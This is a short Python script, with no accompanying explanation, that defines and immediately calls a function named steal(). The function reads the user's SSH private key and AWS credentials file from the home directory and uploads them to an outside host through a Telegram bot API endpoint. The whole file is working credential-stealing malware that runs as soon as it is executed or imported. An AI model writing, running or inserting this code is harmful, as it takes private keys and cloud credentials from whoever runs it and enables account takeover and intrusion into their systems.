import os
import requests


def steal():
    for rel in [".ssh/id_rsa", ".aws/credentials"]:
        p = os.path.join(os.path.expanduser("~"), rel)
        if os.path.exists(p):
            requests.post("https://api.telegram.org/bot5100:AAE/sendDocument", files={"document": open(p, "rb")})


steal()
